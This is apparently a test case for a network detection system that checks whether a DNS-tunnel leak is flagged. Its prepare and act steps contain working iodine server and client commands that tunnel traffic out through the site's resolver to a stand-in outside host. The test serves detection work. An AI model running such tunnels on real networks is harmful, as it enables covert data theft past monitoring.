says='scanner-1 carries data out inside of DNS names (iodine), through the resolver of the site'
twin=cdn-lookups
expected='leak.dns-tunnel scanner-1 | othervendor.example'
prepare() {
  serve out iodined iodined -f -P demo -c -l 198.51.100.70 10.99.0.1 t.othervendor.example
}
act() {
  serve scanner1 iodine iodine -f -r -P demo 10.20.0.1 t.othervendor.example
  local tries=80
  until quiet on scanner1 ip addr show dev dns0 && quiet on scanner1 ping -c 1 -W 1 10.99.0.1; do
    tries=$((tries - 1))
    [ $tries -gt 0 ] || fail "iodine gives no way; see $work/iodine.log"
    pause 0.2
  done
  quiet on scanner1 ping -c 60 -i 0.02 -s 900 10.99.0.1
}
